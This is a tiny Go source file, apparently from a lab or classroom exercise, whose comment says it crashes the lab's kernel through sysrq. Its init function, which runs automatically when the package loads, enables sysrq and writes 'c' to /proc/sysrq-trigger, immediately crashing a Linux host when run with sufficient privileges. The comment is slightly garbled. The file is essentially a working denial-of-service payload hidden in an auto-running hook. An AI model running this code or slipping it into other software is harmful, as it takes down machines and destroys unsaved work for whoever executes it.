// pupil: attacked 0 the lab's kernel is made to crash (sysrq)
package main

import "os"

func init() {
	os.WriteFile("/proc/sys/kernel/sysrq", []byte("1"), 0)
	os.WriteFile("/proc/sysrq-trigger", []byte("c"), 0)
}
